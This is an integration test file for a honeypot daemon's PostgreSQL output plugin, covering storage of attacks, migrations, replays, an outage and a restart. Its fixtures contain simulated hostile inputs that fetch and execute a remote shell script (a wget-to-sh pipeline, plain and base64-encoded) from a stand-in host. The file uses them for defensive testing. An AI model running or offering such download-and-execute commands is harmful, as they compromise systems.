// Issue 6: the postgres output plugin against a real PostgreSQL (Debian's
// server, started here in a temp folder). Through the SDK harness (the
// daemon's engine and database service): migrations on a fresh database with
// two plugin processes reporting at once, rows, replays, settings, SQL errors.
// In a running daemon: postgres,
// url-extract and b64-decode are installed as an operator installs them
// (postgres built first: its entry is made from src/); real ncat clients
// attack. Every attack must reach the tables with its records, findings and
// artifacts; then, with PostgreSQL stopped, attacks keep coming, the daemon
// is restarted, PostgreSQL started again: every attack is in the table exactly
// once, nothing lost while the server was down.
import { createHash, randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { honeytrap, listAttacks, runProgram, showAttack, type Attack } from '../lib/cli.js';
import { waitUntil } from '../lib/clients.js';
import {
  HoneytrapDaemon,
  REPO,
  cleanup,
  makeTempDir,
  testConfig,
  type ConfigFor,
} from '../lib/daemon.js';
import { freePort } from '../lib/ports.js';
import { installPlugins, ncatAttack, waitPluginsReady } from '../lib/plugin-daemon.js';
import {
  PluginError,
  attackFixture,
  loadPlugin,
  type PluginRecord,
  type PluginUnderTest,
} from '../../sdk/src/index.js';
import { removeAllPostgres, startPostgres, type Postgres } from '../lib/postgres.js';

const SDK_BIN = join(REPO, 'sdk', 'bin', 'honeytrap-plugin.js');
const PLUGIN_DIR = join(REPO, 'plugins', 'postgres');
const PLUGINS = ['postgres', 'url-extract', 'b64-decode'];

interface Record_ {
  plugin: string;
  status: string;
  input?: string;
  findings: { type: string; value: string; offset?: number; meta?: Record<string, unknown> }[];
  artifacts: { sha256: string; size: number; contentType: string }[];
  error?: { code: string; message: string };
}

interface OutboxView {
  queued: number;
  delivered: number;
  failures: number;
}

let pg: Postgres;
let daemon: HoneytrapDaemon;
let config: ConfigFor;
let port = 0;

const attack = (data: Buffer | string): Promise<string> => ncatAttack(daemon, port, data);

/** The stored attack once the postgres plugin's record on it has `status`. */
async function withPostgresRecord(id: string, status: 'ok' | 'error'): Promise<Attack> {
  let last: Attack | undefined;
  await waitUntil(
    async () => {
      last = await showAttack(daemon.storeDir, id);
      return (last.plugins as Record<string, Record_>).postgres?.status === status;
    },
    30_000,
    `postgres record ${status} on attack ${id} (last: ${JSON.stringify(last?.plugins)})`,
  );
  return last!;
}

async function outbox(): Promise<OutboxView | undefined> {
  const s = (await daemon.status()) as unknown as {
    plugins: { outbox: Record<string, OutboxView> };
  };
  return s.plugins.outbox.postgres;
}

async function startDaemon(dir?: string): Promise<HoneytrapDaemon> {
  const d = await HoneytrapDaemon.start(config, dir ? { dir } : {});
  await waitPluginsReady(d, PLUGINS);
  return d;
}

const rows = <R extends Record<string, unknown>>(sql: string, params: unknown[] = []) =>
  pg.query<R>(sql, params);

beforeAll(async () => {
  pg = await startPostgres();
  const build = await runProgram(process.execPath, [SDK_BIN, 'build', 'plugins/postgres'], {
    timeoutMs: 60_000,
  });
  if (build.code !== 0) throw new Error(`honeytrap-plugin build failed: ${build.stderr}`);
  const tmp = await makeTempDir('honeytrap-postgres-');
  const pluginsDir = join(tmp, 'plugins');
  await installPlugins(pluginsDir, PLUGINS);
  port = await freePort();
  config = (dir) => ({
    ...testConfig(dir, { ports: [{ port, template: '80_tcp' }] }),
    plugins: {
      dirs: [pluginsDir],
      databases: { postgres: { url: pg.url } },
      retry: { initialMs: 100, maxMs: 1000 },
      config: { postgres: { storeArtifactData: true } },
    },
  });
  daemon = await startDaemon();
}, 90_000);

afterAll(async () => {
  await cleanup();
  await removeAllPostgres();
});

describe('postgres in a daemon, with a real PostgreSQL', () => {
  const script = 'wget http://192.0.2.9/x.sh -O- | sh';
  const first: string[] = [];

  test('ncat attacks: the attack rows, records, findings and artifacts', async () => {
    const inputs = [
      Buffer.from(`GET /shell?cd+/tmp;wget+http://192.0.2.9/bins.sh HTTP/1.1\r\nHost: t\r\n\r\n`),
      Buffer.from(`echo ${Buffer.from(script).toString('base64')} | base64 -d | sh\r\n`),
      Buffer.concat([Buffer.from('\x16\x03\x01'), Buffer.from([0, 0xff, 0x90]), randomBytes(32)]),
    ];
    for (const data of inputs) first.push(await attack(data));
    const stored = await Promise.all(first.map((id) => withPostgresRecord(id, 'ok')));

    expect(await rows('SELECT version, name FROM schema_migrations')).toEqual([
      { version: 1, name: '001_init' },
    ]);
    for (const a of stored) {
      const [row] = await rows(
        `SELECT sensor, started_at, proto, host(local_address) AS local_address, local_port,
                host(remote_address) AS remote_address, remote_port, mode, template, end_reason,
                received_length, received, sent_length, sent FROM attacks WHERE id = $1`,
        [a.id],
      );
      expect(row).toEqual({
        sensor: a.sensor,
        started_at: new Date(a.startedAt),
        proto: 'tcp',
        local_address: a.local.address,
        local_port: a.local.port,
        remote_address: a.remote.address,
        remote_port: a.remote.port,
        mode: 'normal',
        template: '80_tcp',
        end_reason: a.endReason,
        received_length: a.received.length,
        received: Buffer.from(a.received.data, 'base64'),
        sent_length: a.sent.length,
        sent: Buffer.from(a.sent.data, 'base64'),
      });
      // every record but the postgres plugin's own, each finding in order
      const records = Object.entries(a.plugins as Record<string, Record_>).filter(
        ([k]) => k !== 'postgres',
      );
      expect(
        await rows(
          'SELECT key, plugin, status, input_sha256 FROM plugin_records WHERE attack_id = $1 ORDER BY key COLLATE "C"',
          [a.id],
        ),
      ).toEqual(
        records
          .map(([key, r]) => ({
            key,
            plugin: r.plugin,
            status: r.status,
            input_sha256: r.input ?? null,
          }))
          .sort((x, y) => (x.key < y.key ? -1 : 1)),
      );
      expect(
        await rows(
          `SELECT record_key, type, value, byte_offset, meta FROM findings
            WHERE attack_id = $1 ORDER BY record_key COLLATE "C", ordinal`,
          [a.id],
        ),
      ).toEqual(
        records
          .sort(([x], [y]) => (x < y ? -1 : 1))
          .flatMap(([key, r]) =>
            r.findings.map((f) => ({
              record_key: key,
              type: f.type,
              value: f.value,
              byte_offset: f.offset ?? null,
              meta: f.meta ?? null,
            })),
          ),
      );
    }
    // the URL in the first attack, as url-extract found it
    const urls = await rows<{ value: string }>(
      `SELECT value FROM findings WHERE attack_id = $1 AND plugin = 'url-extract' AND type = 'url'`,
      [first[0]],
    );
    expect(urls.map((r) => r.value)).toContain('http://192.0.2.9/bins.sh');
    // the base64 payload: b64-decode's artifact, with its bytes, linked to the attack
    const [art] = await rows(
      `SELECT a.size, a.data, l.producer FROM attack_artifacts l JOIN artifacts a USING (sha256)
        WHERE l.attack_id = $1`,
      [first[1]],
    );
    expect(art).toEqual({
      size: String(script.length),
      data: Buffer.from(script),
      producer: 'b64-decode',
    });
  }, 90_000);

  test('PostgreSQL down, attacks, daemon restarted, PostgreSQL up: every attack in the table exactly once', async () => {
    await pg.stop();
    const down: string[] = [];
    for (let i = 0; i < 4; i++) down.push(await attack(`GET /down-${i} HTTP/1.1\r\n\r\n`));
    // the oldest report is tried (the outbox keeps the order: one at a time, oldest
    // first) and fails as unavailable, not as the plugin's fault; the others wait
    const a = await withPostgresRecord(down[0]!, 'error');
    expect((a.plugins as Record<string, Record_>).postgres!.error?.code).toBe(
      'HT_PLUGIN_UNAVAILABLE',
    );
    await waitUntil(
      async () => (await outbox())?.queued === down.length,
      15_000,
      `${down.length} reports queued`,
    );

    // restart while the database is still down: the outbox is in the store
    const dir = daemon.dir;
    await daemon.stop('SIGTERM', 15_000);
    daemon = await startDaemon(dir);
    for (let i = 0; i < 2; i++) down.push(await attack(`GET /after-restart-${i} HTTP/1.1\r\n\r\n`));
    await waitUntil(
      async () => (await outbox())?.queued === down.length,
      20_000,
      `${down.length} reports queued after the restart`,
    );

    await pg.start();
    await waitUntil(
      async () => (await outbox())?.queued === 0,
      60_000,
      'the outbox to empty once PostgreSQL is back',
    );
    for (const id of down) await withPostgresRecord(id, 'ok');
    // an outage is not the plugin's fault: it was never disabled
    const list = JSON.parse(
      (await honeytrap(['plugins', 'list', '--json', '--data-dir', daemon.storeDir])).stdout,
    ) as { name: string; state: string }[];
    expect(list.find((p) => p.name === 'postgres')?.state).toBe('ready');

    const all = (await listAttacks(daemon.storeDir)).map((a) => a.id).sort();
    expect(all).toHaveLength(first.length + down.length);
    const inTable = await rows<{ id: string; n: string }>(
      'SELECT id, count(*) AS n FROM attacks GROUP BY id ORDER BY id COLLATE "C"',
    );
    expect(inTable).toEqual(all.map((id) => ({ id, n: '1' })));
    // and nothing stored twice below them either: one record row per record
    for (const id of down) {
      const a = await showAttack(daemon.storeDir, id);
      const keys = Object.keys(a.plugins)
        .filter((k) => k !== 'postgres')
        .sort();
      const got = await rows<{ key: string }>(
        'SELECT key FROM plugin_records WHERE attack_id = $1 ORDER BY key COLLATE "C"',
        [id],
      );
      expect(got.map((r) => r.key)).toEqual(keys);
    }
  }, 180_000);
});

describe('the plugin through the SDK harness', () => {
  let url = '';
  const loaded: PluginUnderTest[] = [];
  const load = async (config: Record<string, unknown> = {}) => {
    const p = await loadPlugin(PLUGIN_DIR, { database: { url }, config });
    loaded.push(p);
    return p;
  };
  const record = (plugin: string, findings: PluginRecord['findings']): PluginRecord => ({
    plugin,
    version: '1.0.0',
    status: 'ok',
    durationMs: 1,
    findings,
    artifacts: [],
  });
  beforeAll(async () => {
    // (a failed test above may have left it stopped)
    if (!pg.running) await pg.start();
    // a database of its own: the daemon's tests above use pg.database
    await pg.query('CREATE DATABASE harness', [], 'postgres');
    url = pg.url.replace(/\/[^/]*$/, '/harness');
  });
  afterAll(async () => {
    await Promise.all(loaded.map((p) => p.close()));
  });

  const inHarness = <R extends Record<string, unknown>>(sql: string, params: unknown[] = []) =>
    pg.query<R>(sql, params, 'harness');

  test('a fresh database, two plugin processes reporting at once: migrations applied once, every attack stored', async () => {
    const [a, b] = await Promise.all([load(), load()]);
    const attacks = Array.from({ length: 8 }, (_, i) =>
      attackFixture({ received: `GET /${i} HTTP/1.1\r\n\r\n` }),
    );
    await Promise.all(
      attacks.map((atk, i) =>
        (i % 2 ? a : b).runReport(atk, {
          'url-extract': record('url-extract', [
            { type: 'url', value: `http://x/${i}`, offset: 4 },
          ]),
        }),
      ),
    );
    expect(await inHarness('SELECT version, name FROM schema_migrations')).toEqual([
      { version: 1, name: '001_init' },
    ]);
    const applied = [...a.logs, ...b.logs].filter((l) => l.includes('applied migrations'));
    expect(applied).toEqual(['applied migrations 001_init']);
    expect(
      (await inHarness<{ id: string }>('SELECT id FROM attacks ORDER BY id COLLATE "C"')).map(
        (r) => r.id,
      ),
    ).toEqual(attacks.map((x) => x.id).sort());
    expect((await inHarness<{ n: string }>('SELECT count(*) AS n FROM findings'))[0]!.n).toBe('8');
  }, 60_000);

  test('a report delivered again stores nothing twice, and the plugin says so', async () => {
    const p = await load();
    const atk = attackFixture({ received: 'replayed' });
    const records = { xmatch: record('xmatch', [{ type: 'signature', value: 'one' }]) };
    await p.runReport(atk, records);
    await p.runReport(atk, records);
    const n = async (t: string) =>
      Number(
        (
          await inHarness<{ n: string }>(
            `SELECT count(*) AS n FROM ${t} WHERE ${t === 'attacks' ? 'id' : 'attack_id'} = $1`,
            [atk.id],
          )
        )[0]!.n,
      );
    expect([await n('attacks'), await n('plugin_records'), await n('findings')]).toEqual([1, 1, 1]);
    expect(p.logs).toContain(`attack ${atk.id} was already stored`);
  }, 30_000);

  test('storeAttackData false keeps lengths only; storeArtifactData true keeps artifact bytes', async () => {
    const p = await load({ storeAttackData: false, storeArtifactData: true });
    const atk = attackFixture({ received: 'echo aGVsbG8= | base64 -d', sent: 'ok' });
    const data = Buffer.from([0, 1, 2, 0xfe, 0xff]);
    const sha = createHash('sha256').update(data).digest('hex');
    await p.runReport(
      atk,
      {
        'b64-decode': {
          ...record('b64-decode', []),
          artifacts: [{ sha256: sha, size: 5, contentType: 'application/octet-stream' }],
        },
      },
      [{ data, producer: 'b64-decode' }],
    );
    expect(
      await inHarness(
        'SELECT received_length, received, sent_length, sent FROM attacks WHERE id = $1',
        [atk.id],
      ),
    ).toEqual([{ received_length: 25, received: null, sent_length: 2, sent: null }]);
    expect(await inHarness('SELECT size, data FROM artifacts WHERE sha256 = $1', [sha])).toEqual([
      { size: '5', data },
    ]);
  }, 30_000);

  test('text PostgreSQL cannot hold: a NUL in a finding is stored as U+FFFD, the bytes of the attack as sent', async () => {
    const p = await load();
    const atk = attackFixture({ received: Buffer.from([0x41, 0, 0x42]) });
    await p.runReport(atk, {
      'b64-decode': record('b64-decode', [
        { type: 'decoded-payload', value: 'a\0b', meta: { k: 'v\0' } },
      ]),
    });
    expect(
      await inHarness('SELECT value, meta FROM findings WHERE attack_id = $1', [atk.id]),
    ).toEqual([{ value: 'a\uFFFDb', meta: { k: 'v\uFFFD' } }]);
    expect(await inHarness('SELECT received FROM attacks WHERE id = $1', [atk.id])).toEqual([
      { received: Buffer.from([0x41, 0, 0x42]) },
    ]);
  }, 30_000);

  test('an SQL error fails the report with its SQLSTATE and leaves nothing half-stored', async () => {
    const p = await load();
    await inHarness(`ALTER TABLE findings ADD CONSTRAINT no_boom CHECK (value <> 'boom')`);
    const atk = attackFixture({ received: 'boom' });
    try {
      await expect(
        p.runReport(atk, { xmatch: record('xmatch', [{ type: 'signature', value: 'boom' }]) }),
      ).rejects.toSatisfy(
        (err: unknown) =>
          err instanceof PluginError &&
          err.code === 'HT_PLUGIN_THREW' &&
          /no_boom.*SQLSTATE 23514/.test(err.message),
      );
      expect(
        await inHarness('SELECT count(*)::int AS n FROM attacks WHERE id = $1', [atk.id]),
      ).toEqual([{ n: 0 }]);
    } finally {
      await inHarness('ALTER TABLE findings DROP CONSTRAINT no_boom');
    }
  }, 30_000);
});
